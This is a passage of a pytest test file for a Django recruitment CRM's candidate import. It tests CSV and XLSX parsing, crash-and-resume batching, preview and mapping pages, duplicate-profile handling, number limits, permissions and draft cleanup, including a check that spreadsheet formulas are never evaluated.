    with pytest.raises(ImportFileError, match="not an Excel workbook"):
        inspect_file(io.BytesIO(buffer.getvalue()))


def test_import_upload_rejects_files_over_the_size_limit(org, recruiter_client, settings):
    settings.CANDIDATE_IMPORT_MAX_BYTES = 1024 * 1024
    content = (HEADER + "Ada,Lovelace,ada@example.com,,\n" * 40_000).encode()
    url = reverse("candidates:import", args=[org.slug])

    response = recruiter_client.post(url, {"file": SimpleUploadedFile("big.csv", content)})

    assert "larger than 1 MB" in response.context["form"].errors["file"][0]


# --- XLSX -------------------------------------------------------------------------------------


def test_import_xlsx_file(org, recruiter_user):
    import datetime

    CustomFieldFactory(organization=org, key="available", label="Available", field_type="date")
    content = _xlsx(
        [
            ["First Name", "Last Name", "Email", "Mobile", "Available", "Years"],
            ["Ada", "Lovelace", "ada@example.com", 447911123456, datetime.date(2025, 3, 1), 12.0],
            [None, None, None, None, None, None],
            ["=HYPERLINK(1)", "Hopper", "=1+2", None, "soon", 3.5],
        ]
    )
    job = _job(org, recruiter_user, content, name="people.xlsx", phone_region="GB")
    assert job.params["file"]["format"] == "xlsx"
    assert job.params["mapping"] == [
        "first_name",
        "last_name",
        "email",
        "phone",
        "custom:available",
        "",
    ]
    job = _run(org, job)

    [ada] = _candidates(org)
    assert ada.phone == "+447911123456"
    assert ada.custom_fields == {"available": "2025-03-01"}
    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 1}
    failed = _failed_rows(org, job)
    assert failed[1][:4] == ["4", "", "Hopper", ""]
    assert failed[1][-1] == "Available: enter a date as YYYY-MM-DD. The first name is missing."


def test_import_xlsx_formulas_are_never_evaluated(org, recruiter_user):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["First Name", "Last Name", "Email"])
    sheet.append(["", "Lovelace", '=CONCAT("a","@b.co")'])  # a formula, no saved value
    sheet["A2"].value = "=1+2"
    sheet["A2"].data_type = "s"  # text that looks like a formula
    buffer = io.BytesIO()
    workbook.save(buffer)

    _run(org, _job(org, recruiter_user, buffer.getvalue(), name="f.xlsx"))

    [candidate] = _candidates(org)
    # Text stays text; a formula cell gives the value the spreadsheet saved (none here).
    assert (candidate.first_name, candidate.email) == ("=1+2", "")


# --- crash and resume -------------------------------------------------------------------------


def test_import_crash_mid_file_then_resume_is_exact(org, recruiter_user, settings):
    settings.CANDIDATE_IMPORT_BATCH_SIZE = 100
    rows = [["First Name", "Last Name", "Email"]]
    for i in range(350):
        email = f"p{i % 300}@example.com" if i % 25 else "broken"
        rows.append([f"First{i}", f"Last{i}", email])
    job = _job(org, recruiter_user, _csv(rows).encode())
    real_write = imports._write_batch
    calls = []

    def crash_on_second_batch(**kwargs):
        calls.append(kwargs["batch"].start)
        if len(calls) == 2:
            raise RuntimeError("worker lost")
        return real_write(**kwargs)

    with (
        mock.patch.object(imports, "_write_batch", crash_on_second_batch),
        pytest.raises(RuntimeError),
    ):
        _run(org, job)

    job.refresh_from_db()
    assert job.status == Job.Status.FAILED
    assert job.processed == 100
    assert job.params["committed_rows"] == 100
    assert job.result == {"created": 96, "updated": 0, "skipped": 0, "failed": 4}
    assert len(_candidates(org)) == 96

    job = _run(org, job)

    # 350 rows: 14 broken emails; of the 336 others, rows 300 to 349 repeat emails of rows 0 to 49.
    assert job.status == Job.Status.DONE
    assert job.error == ""
    assert job.result == {"created": 288, "updated": 48, "skipped": 0, "failed": 14}
    assert job.processed == job.total == 350
    with scopes_disabled():
        assert Candidate.objects.filter(organization=org).count() == 288
        assert ImportRowError.objects.filter(job=job).count() == 14
        assert Activity.objects.filter(organization=org, kind="imported").count() == 336
    assert len(_failed_rows(org, job)) == 15


def test_import_run_again_after_finishing_changes_nothing(org, recruiter_user):
    job = _run(
        org, _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    )

    job = _run(org, job)

    assert job.result["created"] == 1
    assert len(_candidates(org)) == 1


def test_import_stale_run_stops_when_another_committed_first(org, recruiter_user):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    with scopes_disabled():
        Job.objects.filter(pk=job.pk).update(params={**job.params, "committed_rows": 0})
    batch = imports.Batch(start=5, size=1, stage_rows=[], failures=[])

    with pytest.raises(imports.ImportSuperseded), scope(organization=org):
        imports._write_batch(job=job, batch=batch, counts={}, now=None)


# --- views ------------------------------------------------------------------------------------


def _upload(client, org, content: bytes, name="people.csv"):
    url = reverse("candidates:import", args=[org.slug])
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


@pytest.fixture
def eager_celery():
    from crm.celery import app

    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = False


def test_import_views_full_flow(
    org, recruiter_client, recruiter_user, eager_celery, django_capture_on_commit_callbacks
):
    content = (HEADER + "Ada,Lovelace,ada@example.com,+44 7911 123456,Analyst\n").encode()

    response = _upload(recruiter_client, org, content)
    with scopes_disabled():
        job = Job.objects.get(organization=org, kind=Job.Kind.IMPORT)
    assert response.status_code == 302
    assert response["Location"] == reverse("candidates:import_mapping", args=[org.slug, job.pk])
    assert job.status == Job.Status.DRAFT
    assert job.input_name == "people.csv"
    assert "people" not in job.input_file.name  # stored under an opaque name

    response = recruiter_client.get(response["Location"])
    assert response.status_code == 200
    assert response.context["form"]["column_2"].value() == "email"
    assert "ada@example.com" in response.content.decode()

    data = {f"column_{i}": t for i, t in enumerate(job.params["mapping"])}
    data.update(duplicates="skip", tags="Berlin Meetup", source="event", phone_region="")
    response = recruiter_client.post(
        reverse("candidates:import_mapping", args=[org.slug, job.pk]), data
    )
    assert response["Location"] == reverse("candidates:import_preview", args=[org.slug, job.pk])

    response = recruiter_client.get(response["Location"])
    assert response.status_code == 200
    assert response.context["preview"].rows[0].cells[0].value == "Ada"

    with django_capture_on_commit_callbacks(execute=True):
        response = recruiter_client.post(
            reverse("candidates:import_start", args=[org.slug, job.pk])
        )
    assert response["Location"] == reverse("candidates:job_detail", args=[org.slug, job.pk])
    job.refresh_from_db()
    assert job.status == Job.Status.DONE
    [ada] = _candidates(org)
    assert (ada.source, ada.tags) == ("event", ["berlin meetup"])

    response = recruiter_client.get(reverse("candidates:job_detail", args=[org.slug, job.pk]))
    assert response.status_code == 200


def test_import_preview_shows_invalid_cells_with_reasons(org, recruiter_client, recruiter_user):
    content = (HEADER + "Ada,Lovelace,ada@,12,Analyst\n,Hopper,grace@example.com,,\n").encode()
    job = _job(org, recruiter_user, content)

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    body = response.content.decode()
    preview = response.context["preview"]
    assert preview.rows_with_errors == 2
    assert [cell.error for cell in preview.rows[0].cells if cell.error] == [
        "“ada@” is not a valid email address.",
        "“12” is not a valid phone number.",  # the organisation's country is assumed
    ]
    assert "The first name is missing." in body
    assert "table-danger" in body


def test_import_preview_lists_each_rows_problems_under_the_row(
    org, recruiter_client, recruiter_user
):
    """A cell in error may be off screen in a table wider than a phone: every problem is said
    in words, with its column, in a full-width row under its row."""
    from crm.tests.markup import attributes, elements, text

    content = (
        HEADER + "Ada,Lovelace,ada@,12,Analyst\n,Hopper,grace@example.com,,\nAlan,Turing,,,\n"
    ).encode()
    job = _job(org, recruiter_user, content)

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    body = next(e for e in elements(response.content.decode()) if e.name == "tbody")
    rows = [
        (attributes(row).get("class") or "", text(row))
        for row in body.children
        if getattr(row, "name", None) == "tr"
    ]
    assert [words for kind, words in rows if "import-problems" in kind] == [
        "Email: “ada@” is not a valid email address. Phone: “12” is not a valid phone number.",
        "First name: The first name is missing.",
    ]
    # Each under its own row: the row numbered 2, then 3; the valid row 4 has none.
    assert [words.split()[0] for _kind, words in rows] == ["2", "Email:", "3", "First", "4"]


def test_import_preview_names_the_assumed_country_of_failing_phone_numbers(
    org, recruiter_client, recruiter_user
):
    content = (HEADER + "Zoé,Müller,zoe@example.com,01 42 68 53 01,Analyst\n").encode()
    job = _job(org, recruiter_user, content, phone_region="GB")

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    assert response.context["phone_region_hint"] == "United Kingdom (+44)"
    assert (
        "Phone numbers without a country code are read as United Kingdom (+44) numbers."
        in response.content.decode()
    )


@pytest.mark.parametrize(
    ("phone", "region"),
    [
        ("07911 123456", "GB"),  # every phone number is fine
        ("01 42 68 53 01", ""),  # no country assumed: the error itself asks for the code
    ],
)
def test_import_preview_names_no_country_without_a_phone_problem_or_a_country(
    org, recruiter_client, recruiter_user, phone, region
):
    content = (HEADER + f"Zoé,Müller,zoe@example.com,{phone},Analyst\n").encode()
    job = _job(org, recruiter_user, content, phone_region=region)

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    assert response.context["phone_region_hint"] == ""
    assert 'id="import-phone-region"' not in response.content.decode()


def _preview_outcome(response) -> str:
    body = response.content.decode()
    outcome = re.search(r'<p class="[^"]*" id="import-outcome">(.*?)</p>', body, re.S).group(1)
    return " ".join(re.sub(r"<[^>]+>", "", outcome).split())


def _import_button(response) -> str:
    body = response.content.decode()
    button = re.search(r'<button type="submit"[^>]*import-outcome[^>]*>(.*?)</button>', body, re.S)
    return " ".join(re.sub(r"<[^>]+>", "", button.group(1)).split())


def test_import_preview_says_how_many_rows_will_fail_when_it_shows_them_all(
    org, recruiter_client, recruiter_user
):
    content = (
        HEADER
        + "Ada,Lovelace,ada@example.com,,\n"
        + "Grace,Hopper,not-an-email,,\n"
        + ",Turing,alan@example.com,,\n"
        + "Edsger,Dijkstra,edsger@,,\n"
    ).encode()
    job = _job(org, recruiter_user, content)

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    assert _import_button(response) == "Import 1 row (3 with problems will not be imported)"
    assert _preview_outcome(response) == (
        "3 of the 4 rows have problems and will be reported as failed, not imported. "
        "The other 1 is ready to import."
    )
    assert "Rows with problems in the first" not in response.content.decode()


def test_import_preview_of_the_first_rows_claims_nothing_about_the_rest(
    org, recruiter_client, recruiter_user
):
    rows = [f"Person,{n},person{n}@example.com,,\n" for n in range(30)]
    rows[3] = "Person,3,bad-email,,\n"
    job = _job(org, recruiter_user, (HEADER + "".join(rows)).encode())

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    assert _import_button(response) == (
        "Import 30 rows (at least 1 with problems will not be imported)"
    )
    assert _preview_outcome(response) == (
        "1 of the first 20 rows has a problem and will be reported as failed, not imported. "
        "The rest of the file is checked as it is imported."
    )


@pytest.mark.parametrize(
    ("lines", "outcome"),
    [
        (["Ada,Lovelace,ada@example.com,,"], "No problems found: every row is ready to import."),
        (
            ["Ada,Lovelace,bad,,", "Grace,Hopper,bad,,"],
            "All 2 rows have problems and will be reported as failed: no candidate will be "
            "imported.",
        ),
        (
            ["Ada,Lovelace,bad,,"],
            "The row has a problem and will be reported as failed: no candidate will be imported.",
        ),
    ],
    ids=["all-good", "all-bad", "one-bad"],
)
def test_import_preview_outcome_of_a_whole_file(
    org, recruiter_client, recruiter_user, lines, outcome
):
    job = _job(org, recruiter_user, (HEADER + "\n".join(lines) + "\n").encode())

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    assert _preview_outcome(response) == outcome


def test_import_preview_of_a_workbook_counts_only_the_rows_it_shows(
    org, recruiter_client, recruiter_user
):
    content = _xlsx([["First Name", "Last Name", "Email"], ["Ada", "Lovelace", "bad"]])
    job = _job(org, recruiter_user, content, name="people.xlsx")

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    # A workbook's row count is an estimate: the preview cannot know it saw every row.
    assert _import_button(response) == (
        "Import about 1 row (at least 1 with problems will not be imported)"
    )
    assert _preview_outcome(response) == (
        "The first row has a problem and will be reported as failed, not imported. "
        "The rest of the file is checked as it is imported."
    )


def test_import_preview_of_a_draft_whose_file_cannot_be_read_goes_back_to_the_upload(
    org, recruiter_client, recruiter_user
):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    # A draft uploaded before the reader refused unclosed quotes.
    job.input_file.save("broken.csv", io.BytesIO(HEADER.encode() + b'"Ada,Lovelace\n'))

    response = recruiter_client.get(
        reverse("candidates:import_preview", args=[org.slug, job.pk]), follow=True
    )

    assert response.redirect_chain == [(reverse("candidates:import", args=[org.slug]), 302)]
    assert "The row starting on line 2 has a quote" in response.content.decode()


def test_import_mapping_requires_a_name_column_and_unique_fields(
    org, recruiter_client, recruiter_user
):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    url = reverse("candidates:import_mapping", args=[org.slug, job.pk])
    data = {"column_0": "", "column_1": "email", "column_2": "email", "duplicates": "update"}
    data.update(source="import")

    response = recruiter_client.post(url, data)

    assert response.status_code == 200
    form = response.context["form"]
    assert "First name or Full name" in form.non_field_errors()[0]
    assert "already imported as Email" in form.errors["column_2"][0]


def _mapping_alert(response) -> str:
    body = response.content.decode()
    start = body.index('<div class="alert alert-danger"')
    return " ".join(body[start : body.index("</div>\n", start)].split())


def test_import_mapping_without_a_name_column_points_at_nothing_below(
    org, recruiter_client, recruiter_user
):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    url = reverse("candidates:import_mapping", args=[org.slug, job.pk])
    data = {"column_0": "", "column_1": "", "column_2": "email", "duplicates": "fill"}
    data.update(source="import")

    alert = _mapping_alert(recruiter_client.post(url, data))

    assert "import it as First name or Full name." in alert
    assert "marked below" not in alert  # no column is marked: the name column is unmapped


def test_import_mapping_alert_points_at_the_marked_columns(org, recruiter_client, recruiter_user):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    url = reverse("candidates:import_mapping", args=[org.slug, job.pk])
    data = {"column_0": "first_name", "column_1": "email", "column_2": "email"}
    data.update(duplicates="fill", source="import")
    both = {**data, "column_0": ""}

    alone = _mapping_alert(recruiter_client.post(url, data))
    with_name = _mapping_alert(recruiter_client.post(url, both))

    assert "Some choices need your attention; they are marked below." in alone
    assert "First name or Full name" in with_name
    assert "Other choices need your attention too; they are marked below." in with_name


def test_import_progress_page_is_the_fourth_step(org, recruiter_client, recruiter_user):
    job = _run(org, _job(org, recruiter_user, (HEADER + "Ada,Lovelace,,,\n").encode()))
    with scopes_disabled():
        export = Job.objects.create(organization=org, kind=Job.Kind.EXPORT)

    body = recruiter_client.get(
        reverse("candidates:job_detail", args=[org.slug, job.pk])
    ).content.decode()
    other = recruiter_client.get(
        reverse("candidates:job_detail", args=[org.slug, export.pk])
    ).content.decode()

    current = body[body.index('aria-current="step"') - 120 : body.index('aria-current="step"')]
    assert 'aria-label="Import steps"' in body
    assert body.count("is-done") == 3 and "is-current" in current
    assert 'aria-label="Import steps"' not in other


def test_import_started_job_pages_redirect_to_progress(org, recruiter_client, recruiter_user):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    with scopes_disabled():
        Job.objects.filter(pk=job.pk).update(status=Job.Status.QUEUED)

    response = recruiter_client.get(reverse("candidates:import_mapping", args=[org.slug, job.pk]))

    assert response["Location"] == reverse("candidates:job_detail", args=[org.slug, job.pk])


def test_import_resume_view_requeues_a_stopped_import(
    org, recruiter_client, recruiter_user, django_capture_on_commit_callbacks
):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    with scopes_disabled():
        Job.objects.filter(pk=job.pk).update(status=Job.Status.FAILED)
    url = reverse("candidates:import_resume", args=[org.slug, job.pk])

    with (
        mock.patch("candidates.tasks.import_run_task.delay") as delay,
        django_capture_on_commit_callbacks(execute=True),
    ):
        response = recruiter_client.post(url, follow=True)

    delay.assert_called_once_with(organization_id=org.pk, job_id=job.pk)
    assert response.redirect_chain == [
        (reverse("candidates:job_detail", args=[org.slug, job.pk]), 302)
    ]
    # The page says the import carries on, in the part that follows the job, and no flash
    # stays above it saying so once the import has finished.
    assert [str(message) for message in response.context["messages"]] == []
    assert "Importing in the background." in response.content.decode()


def test_import_upload_page_lists_recent_imports(org, recruiter_client, recruiter_user):
    job = _run(org, _job(org, recruiter_user, (HEADER + "Ada,Lovelace,a@b.co,,\n").encode()))

    response = recruiter_client.get(reverse("candidates:import", args=[org.slug]))

    assert response.status_code == 200
    assert response.context["recent_jobs"] == [job]
    assert "1 created" in response.content.decode()


def test_import_failed_rows_download(org, recruiter_client, recruiter_user):
    job = _run(org, _job(org, recruiter_user, (HEADER + "Ada,Lovelace,nope,,\n").encode()))

    response = recruiter_client.get(reverse("candidates:job_download", args=[org.slug, job.pk]))

    assert response.status_code == 200
    assert 'filename="people-failed-rows.csv"' in response["Content-Disposition"]
    assert b"not a valid email address" in b"".join(response.streaming_content)


def test_import_summary_lists_outcome_failed_rows_and_their_file(
    org, recruiter_client, recruiter_user
):
    content = (
        HEADER
        + "Ada,Lovelace,ada@example.com,,\n"
        + "".join(f"Bad{i},Row,nope{i},,\n" for i in range(12))
    )
    job = _run(org, _job(org, recruiter_user, content.encode()))

    response = recruiter_client.get(reverse("candidates:job_detail", args=[org.slug, job.pk]))

    body = response.content.decode()
    assert response.context["import_outcome"] == [
        ("New profiles created", 1, "text-success"),
        ("Existing profiles updated", 0, ""),
        ("Skipped", 0, "text-body-secondary"),
        ("Failed", 12, "text-danger"),
    ]
    rows = response.context["failed_rows"]
    assert [row.row_number for row in rows] == list(range(3, 13))
    assert rows[0].summary == "Bad0 · Row · nope0"
    assert "“nope0” is not a valid email address." in body
    assert "The first 10 of 12" in body
    assert "Download the failed rows with their reasons (CSV)" in body
    assert "Continue the import" not in body


def test_import_summary_of_a_stopped_import_offers_to_continue_to_writers_only(
    org, recruiter_client, viewer_client, recruiter_user
):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    with scopes_disabled():
        Job.objects.filter(pk=job.pk).update(
            status=Job.Status.FAILED, error="The import stopped unexpectedly."
        )
    url = reverse("candidates:job_detail", args=[org.slug, job.pk])
    resume = reverse("candidates:import_resume", args=[org.slug, job.pk])

    assert f'action="{resume}"' in recruiter_client.get(url).content.decode()
    assert f'action="{resume}"' not in viewer_client.get(url).content.decode()


def test_import_viewer_is_forbidden(org, viewer_client, recruiter_user):
    job = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    urls = [
        reverse("candidates:import", args=[org.slug]),
        reverse("candidates:import_mapping", args=[org.slug, job.pk]),
        reverse("candidates:import_preview", args=[org.slug, job.pk]),
    ]
    post_only = [
        reverse("candidates:import_start", args=[org.slug, job.pk]),
        reverse("candidates:import_resume", args=[org.slug, job.pk]),
    ]

    assert [viewer_client.get(url).status_code for url in urls] == [403, 403, 403]
    assert [viewer_client.post(url).status_code for url in urls + post_only] == [403] * 5
    job.refresh_from_db()
    assert job.status == Job.Status.DRAFT


def test_import_other_organisation_gets_404(org, outsider_client, outsider_user, other_org):
    job = _job(org, outsider_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    names = ["import_mapping", "import_preview", "import_start", "import_resume"]

    for name in names:
        for slug in (org.slug, other_org.slug):
            url = reverse(f"candidates:{name}", args=[slug, job.pk])
            assert outsider_client.post(url).status_code == 404, url


def test_import_job_of_another_kind_is_not_an_import(org, recruiter_client):
    with scopes_disabled():
        job = Job.objects.create(organization=org, kind=Job.Kind.EXPORT)

    response = recruiter_client.get(reverse("candidates:import_mapping", args=[org.slug, job.pk]))

    assert response.status_code == 404


def test_import_anonymous_is_sent_to_login(org, client):
    response = client.get(reverse("candidates:import", args=[org.slug]))

    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


# --- rows of existing candidates: preview, fill or update, summary -----------------------------


def test_import_duplicate_email_fill_by_default_keeps_values_and_fills_empty_ones(
    org, recruiter_user
):
    CustomFieldFactory(organization=org, key="notice", label="Notice", field_type="number")
    existing = CandidateFactory(
        organization=org,
        first_name="Ada",
        last_name="King",
        email="ada@example.com",
        phone="",
        current_title="",
        custom_fields={"notice": 4},
        tags=["vip"],
    )
    content = _csv(
        [
            ["First Name", "Last Name", "Email", "Phone", "Current Title", "Notice"],
            ["Ada", "Lovelace", "ada@example.com", "+44 7911 123456", "Analyst", "8"],
        ]
    )
    job = _run(org, _job(org, recruiter_user, content.encode(), tags=["imported"]))

    assert job.params["options"]["duplicates"] == "fill"
    assert job.result == {"created": 0, "updated": 1, "skipped": 0, "failed": 0}
    [candidate] = _candidates(org)
    assert candidate.pk == existing.pk
    assert (candidate.first_name, candidate.last_name) == ("Ada", "King")  # kept
    assert (candidate.phone, candidate.current_title) == ("+447911123456", "Analyst")  # filled
    assert candidate.custom_fields == {"notice": 4}
    assert candidate.tags == ["vip", "imported"]


def test_import_duplicate_email_fill_still_applies_a_do_not_contact_status(org, recruiter_user):
    CandidateFactory(organization=org, email="ada@example.com", status="active")
    content = "Name,Email,Status\nAda Lovelace,ada@example.com,Do not contact\n"

    _run(org, _job(org, recruiter_user, content.encode()))

    assert [c.status for c in _candidates(org)] == ["do_not_contact"]


def test_import_mapping_offers_fill_update_and_skip_with_fill_first(org, recruiter_client):
    response = _upload(
        recruiter_client, org, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode()
    )

    page = recruiter_client.get(response["Location"])

    field = page.context["form"]["duplicates"]
    assert [value for value, _ in field.field.choices] == ["fill", "update", "skip"]
    assert field.value() == "fill"


@pytest.mark.parametrize(
    ("duplicates", "says"),
    [
        ("fill", "Updates the existing profile Ada King: fills in only its empty fields"),
        ("update", "Updates the existing profile Ada King: this row's non-empty cells replace"),
        ("skip", "Skipped: the existing profile Ada King has this email"),
    ],
)
def test_import_preview_names_the_existing_profile_each_row_updates(
    org, recruiter_client, recruiter_user, duplicates, says
):
    existing = CandidateFactory(
        organization=org, first_name="Ada", last_name="King", email="ada@example.com"
    )
    content = HEADER + "Ada,Lovelace,ADA@example.com,,\nGrace,Hopper,grace@example.com,,\n"
    job = _job(org, recruiter_user, content.encode(), duplicates=duplicates)

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    body = response.content.decode()
    notes = re.findall(r'<tr class="table-info import-existing">(.*?)</tr>', body, re.S)
    assert len(notes) == 1
    assert says in " ".join(re.sub(r"<[^>]+>", "", notes[0]).split())
    assert f'href="{reverse("candidates:detail", args=[org.slug, existing.pk])}"' in notes[0]
    assert [row.existing and row.existing.pk for row in response.context["preview"].rows] == [
        existing.pk,
        None,
    ]
    expected = "Import 1 row" if duplicates == "skip" else "Import 2 rows"
    assert _import_button(response) == expected


def test_import_preview_finds_existing_profiles_in_one_query(org, recruiter_user):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries(count):
        people = [
            CandidateFactory(organization=org, email=f"p{count}-{n}@example.com")
            for n in range(count)
        ]
        content = HEADER + "".join(f"P,{n},{p.email},,\n" for n, p in enumerate(people))
        job = _job(org, recruiter_user, content.encode())
        with scope(organization=org), CaptureQueriesContext(connection) as captured:
            preview = imports.import_preview(job=job)
        assert preview.rows_of_existing_candidates == count
        return len(captured)

    assert queries(1) == queries(3)


def test_import_summary_says_how_many_existing_profiles_were_updated(
    org, recruiter_client, recruiter_user
):
    CandidateFactory(organization=org, email="ada@example.com")
    content = HEADER + "Ada,Lovelace,ada@example.com,,\nGrace,Hopper,grace@example.com,,\n"
    job = _run(org, _job(org, recruiter_user, content.encode()))

    response = recruiter_client.get(reverse("candidates:job_detail", args=[org.slug, job.pk]))

    assert response.context["import_outcome"][:2] == [
        ("New profiles created", 1, "text-success"),
        ("Existing profiles updated", 1, ""),
    ]
    assert "Existing profiles updated" in response.content.decode()


# --- number custom fields of any size ---------------------------------------------------------

HUGE_NUMBERS = ["1e5000", "1e1000000", "123456789012", "1.23456"]


@pytest.mark.parametrize("huge", HUGE_NUMBERS)
def test_import_preview_reports_an_oversized_number_cell(
    org, recruiter_client, recruiter_user, huge
):
    CustomFieldFactory(organization=org, key="salary", label="Salary", field_type="number")
    content = _csv(
        [["Name", "Email", "Salary"], ["Ada Lovelace", "ada@example.com", huge], ["Grace", "", "5"]]
    )
    job = _job(org, recruiter_user, content.encode())

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    assert response.status_code == 200
    first, second = response.context["preview"].rows
    [error] = [cell.error for cell in first.cells if cell.error]
    assert error.startswith("Salary: Ensure that there are no more than")
    assert not second.has_errors


@pytest.mark.parametrize("huge", HUGE_NUMBERS)
def test_import_run_fails_only_the_row_of_an_oversized_number_cell(org, recruiter_user, huge):
    CustomFieldFactory(organization=org, key="salary", label="Salary", field_type="number")
    content = _csv(
        [
            ["Name", "Email", "Salary"],
            ["Ada Lovelace", "ada@example.com", huge],
            ["Grace Hopper", "grace@example.com", "99999999999.5"],
        ]
    )

    job = _run(org, _job(org, recruiter_user, content.encode()))

    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 1}
    [grace] = _candidates(org)
    assert grace.custom_fields == {"salary": 99999999999.5}
    assert "Salary: Ensure that there are no more than" in _failed_rows(org, job)[1][-1]


# --- a number field's minimum and maximum ---------------------------------------------------

YEARS_ROWS = [
    ["Name", "Email", "Years"],
    ["Ada Lovelace", "ada@example.com", "61"],
    ["Grace Hopper", "grace@example.com", "60"],
    ["Alan Turing", "alan@example.com", "0"],
]


def _years_field(org):
    return CustomFieldFactory(
        organization=org,
        key="years",
        label="Years of experience",
        field_type="number",
        min_value=1,
        max_value=60,
    )


def test_import_run_fails_only_the_rows_outside_a_number_fields_limits(org, recruiter_user):
    _years_field(org)

    job = _run(org, _job(org, recruiter_user, _csv(YEARS_ROWS).encode()))

    assert job.result == {"created": 1, "updated": 0, "skipped": 0, "failed": 2}
    [grace] = _candidates(org)
    assert grace.custom_fields == {"years": 60}
    failed = _failed_rows(org, job)
    assert [(row[0], row[-1]) for row in failed[1:]] == [
        ("2", "Years of experience: at most 60."),
        ("4", "Years of experience: at least 1."),
    ]


def test_import_preview_reports_a_number_outside_the_limits_in_its_cell(
    org, recruiter_client, recruiter_user
):
    _years_field(org)
    job = _job(org, recruiter_user, _csv(YEARS_ROWS).encode())

    response = recruiter_client.get(reverse("candidates:import_preview", args=[org.slug, job.pk]))

    assert response.status_code == 200
    rows = response.context["preview"].rows
    assert [[cell.error for cell in row.cells if cell.error] for row in rows] == [
        ["Years of experience: at most 60."],
        [],
        ["Years of experience: at least 1."],
    ]


def test_deleting_jobs_in_the_admin_removes_their_stored_files(
    org, recruiter_user, client, django_capture_on_commit_callbacks
):
    from tests.factories import UserFactory

    first = _job(org, recruiter_user, (HEADER + "Ada,Lovelace,ada@example.com,,\n").encode())
    second = _job(org, recruiter_user, (HEADER + "Bo,Lee,bo@example.com,,\n").encode())
    with scope(organization=org):
        second.output_file.save("failed.csv", io.BytesIO(b"row,reason\n"))
    names = [first.input_file.name, second.input_file.name, second.output_file.name]
    assert all(default_storage.exists(name) for name in names)
    client.force_login(UserFactory(is_staff=True, is_superuser=True))

    with django_capture_on_commit_callbacks(execute=True):
        single = client.post(
            reverse("admin:candidates_job_delete", args=[first.pk]), {"post": "yes"}
        )
        bulk = client.post(
            reverse("admin:candidates_job_changelist"),
            {"action": "delete_selected", "_selected_action": [second.pk], "post": "yes"},
        )

    assert (single.status_code, bulk.status_code) == (302, 302)
    with scopes_disabled():
        assert not Job.objects.filter(pk__in=[first.pk, second.pk]).exists()
    assert [default_storage.exists(name) for name in names] == [False, False, False]


# --- drafts: uploaded, never started ---

GOOD_CSV = b"First name,Last name,Email\nAda,Lovelace,ada@example.com\n"


def test_import_page_lists_my_unfinished_imports_to_continue_or_discard(
    org, recruiter_client, recruiter_user, admin_user
):
    mine = _upload(recruiter_client, org, GOOD_CSV, name="mine.csv")
    assert mine.status_code == 302
    with scopes_disabled():
        draft = Job.objects.get(input_name="mine.csv")
        theirs = imports.import_create(
            organization=org,
            user=admin_user,
            upload=SimpleUploadedFile("theirs.csv", GOOD_CSV),
            info=inspect_file(SimpleUploadedFile("theirs.csv", GOOD_CSV)),
        )
    body = recruiter_client.get(reverse("candidates:import", args=[org.slug])).content.decode()
    assert "Your unfinished imports" in body
    assert "mine.csv" in body and "theirs.csv" not in body
    assert reverse("candidates:import_mapping", args=[org.slug, draft.pk]) in body
    assert reverse("candidates:import_discard", args=[org.slug, draft.pk]) in body
    assert "No import has run yet" in body and "No imports yet" not in body

    # A colleague's draft is not mine to discard.
    recruiter_client.post(reverse("candidates:import_discard", args=[org.slug, theirs.pk]))
    with scopes_disabled():
        assert Job.objects.filter(pk=theirs.pk).exists()


def test_import_discard_deletes_the_draft_and_its_file(
    org, recruiter_client, recruiter_user, django_capture_on_commit_callbacks
):
    _upload(recruiter_client, org, GOOD_CSV, name="mine.csv")
    with scopes_disabled():
        draft = Job.objects.get(input_name="mine.csv")
    name = draft.input_file.name
    assert default_storage.exists(name)
    with django_capture_on_commit_callbacks(execute=True):
        response = recruiter_client.post(
            reverse("candidates:import_discard", args=[org.slug, draft.pk])
        )
    assert response["Location"] == reverse("candidates:import", args=[org.slug])
    with scopes_disabled():
        assert not Job.objects.filter(pk=draft.pk).exists()
    assert not default_storage.exists(name)
    body = recruiter_client.get(reverse("candidates:import", args=[org.slug])).content.decode()
    assert "Your unfinished imports" not in body


def test_import_discard_keeps_an_import_that_has_started(org, recruiter_client, recruiter_user):
    job = _job(org, recruiter_user, GOOD_CSV)
    _run(org, job)
    response = recruiter_client.post(reverse("candidates:import_discard", args=[org.slug, job.pk]))
    assert response.status_code == 302
    with scopes_disabled():
        assert Job.objects.get(pk=job.pk).status == Job.Status.DONE


def test_import_drafts_expire_after_a_week_with_their_files(
